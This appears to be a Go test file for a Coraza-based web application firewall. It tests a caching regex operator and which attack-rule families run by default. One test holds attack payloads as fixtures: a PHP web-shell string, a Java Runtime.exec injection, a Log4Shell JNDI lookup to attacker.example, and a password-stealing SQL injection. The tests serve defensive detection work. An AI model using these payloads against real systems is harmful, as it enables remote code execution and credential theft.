package waf

import (
	"fmt"
	"net/http"
	"regexp"
	"slices"
	"testing"

	"github.com/corazawaf/coraza/v3/experimental/plugins/plugintypes"
)

// fakeTX is the part of a transaction the @rx operator uses.
type fakeTX struct {
	plugintypes.TransactionState
	capturing bool
	captured  map[int]string
}

func (f *fakeTX) Capturing() bool { return f.capturing }
func (f *fakeTX) CaptureField(i int, v string) {
	if f.captured == nil {
		f.captured = map[int]string{}
	}
	f.captured[i] = v
}

// TestRXOpAgreesWithRegexp checks that the remembering operator gives the
// result and captures of a plain run of the pattern, on a first evaluation
// and on a remembered one, with and without capture, for UTF-8 and binary
// patterns and values too long to remember.
func TestRXOpAgreesWithRegexp(t *testing.T) {
	long := fmt.Sprintf("%0*d", rxCacheMaxValue+10, 0) + "abcd"
	for _, tc := range []struct {
		pattern string
		values  []string
	}{
		{`(ab)(c)?d`, []string{"xxabcd", "abd", "ab", "", "ABCD", long}},
		{`(?i)union\s+select`, []string{"1 UNION  SELECT x", "union", "x\nunion select"}},
		{`^foo$`, []string{"foo", "bar\nfoo", "foo\n"}}, // multiline mode, as Coraza compiles it
		{`a.b`, []string{"a\nb", "ab"}},                 // dotall mode
		{`\xff\xfe(x)`, []string{"\xff\xfex", "\xffx", "x"}},
		{`[\x{100}-\x{200}](é)`, []string{"\u0150é", "é"}},
	} {
		op, err := newRXOp(plugintypes.OperatorOptions{Arguments: tc.pattern})
		if err != nil {
			t.Fatalf("%s: %v", tc.pattern, err)
		}
		var ref interface {
			FindStringSubmatchIndex(string) []int
		}
		if matchesArbitraryBytes(tc.pattern) {
			ref = op.(*rxOp).re // binary: checked against its own first run below
		} else {
			ref = regexp.MustCompile("(?sm)" + tc.pattern)
		}
		for _, v := range tc.values {
			want := ref.FindStringSubmatchIndex(v)
			for round := range 3 {
				for _, capturing := range []bool{false, true, false} {
					tx := &fakeTX{capturing: capturing}
					got := op.Evaluate(tx, v)
					if got != (want != nil) {
						t.Fatalf("%q on %q (round %d, capture %v): %v, want %v", tc.pattern, v, round, capturing, got, want != nil)
					}
					if !capturing || want == nil {
						if len(tx.captured) != 0 {
							t.Fatalf("%q on %q: captured %v without capture", tc.pattern, v, tx.captured)
						}
						continue
					}
					for i := 0; i < len(want)/2 && i < 9; i++ {
						exp := ""
						if want[2*i] >= 0 {
							exp = v[want[2*i]:want[2*i+1]]
						}
						if c, ok := tx.captured[i]; !ok || c != exp {
							t.Fatalf("%q on %q: TX.%d = %q, want %q", tc.pattern, v, i, c, exp)
						}
					}
				}
			}
		}
	}
}

// TestRXCacheBounded fills the cache far beyond its size: every shard
// stays at its bound, and results stay right.
func TestRXCacheBounded(t *testing.T) {
	op, err := newRXOp(plugintypes.OperatorOptions{Arguments: `7$`})
	if err != nil {
		t.Fatal(err)
	}
	for i := range rxCacheShards * rxCacheShardSize * 3 {
		v := fmt.Sprint(i)
		if got, want := op.Evaluate(&fakeTX{}, v), v[len(v)-1] == '7'; got != want {
			t.Fatalf("%s: %v", v, got)
		}
	}
	for i := range rxCache.shards {
		s := &rxCache.shards[i]
		s.mu.Lock()
		n := len(s.m)
		s.mu.Unlock()
		if n > rxCacheShardSize {
			t.Fatalf("shard %d holds %d entries, bound %d", i, n, rxCacheShardSize)
		}
	}
}

// TestRXCacheKeepsNoAlias checks that a remembered value is a copy: a
// caller that reuses its buffer cannot change what was remembered.
func TestRXCacheKeepsNoAlias(t *testing.T) {
	op, err := newRXOp(plugintypes.OperatorOptions{Arguments: `^attack$`})
	if err != nil {
		t.Fatal(err)
	}
	if !op.Evaluate(&fakeTX{}, "attack") {
		t.Fatal("no match")
	}
	k := rxKey{re: op.(*rxOp).re, value: "attack"}
	if r, ok := rxCache.get(k); !ok || !r.matched {
		t.Fatalf("not remembered: %+v %v", r, ok)
	}
	if op.Evaluate(&fakeTX{}, "attacj") {
		t.Fatal("a different value matched")
	}
}

// TestSkippedFamilies checks that the PHP, Java and session-fixation
// families are out by default and in with AllFamilies, that Log4Shell
// stays, and that the families that matter for the API stay either way.
func TestSkippedFamilies(t *testing.T) {
	php := chatRequest(nil)
	php.Method, php.RequestURI = "GET", "/v1/models?x=%3C%3Fphp%20system(%24_GET%5Bcmd%5D)%3B%20%3F%3E"
	java := chatRequest(nil)
	java.Method, java.RequestURI = "GET", "/v1/models?x=java.lang.Runtime.getRuntime().exec(%22id%22)"
	log4j := chatRequest(nil)
	log4j.Method, log4j.RequestURI = "GET", "/v1/models"
	log4j.Header.Set("X-Api-Version", "${jndi:ldap://attacker.example/a}")
	sqli := chatRequest(nil)
	sqli.Method, sqli.RequestURI = "GET", "/v1/models?id=1%27%20OR%20%271%27=%271%27%20UNION%20SELECT%20password%20FROM%20users--"
	lean := mustDefault(t)
	all := mustNew(t, Config{Enabled: true, AllFamilies: true})
	for _, tc := range []struct {
		name   string
		w      *WAF
		r      *http.Request
		family string
		want   bool
	}{
		{"php default", lean, php, "933", false},
		{"php all", all, php, "933", true},
		{"java default", lean, java, "944", false},
		{"java all", all, java, "944", true},
		{"log4shell default", lean, log4j, "944", true},
		{"sqli default", lean, sqli, "942", true},
		{"sqli all", all, sqli, "942", true},
	} {
		v, err := tc.w.Inspect(t.Context(), tc.r, nil)
		if err != nil {
			t.Fatalf("%s: %v", tc.name, err)
		}
		got := slices.ContainsFunc(v.RuleIDs, func(id int) bool { return fmt.Sprint(id)[:3] == tc.family })
		if got != tc.want {
			t.Errorf("%s: rules of %s matched = %v, want %v (%v)", tc.name, tc.family, got, tc.want, v.RuleIDs)
		}
	}
}
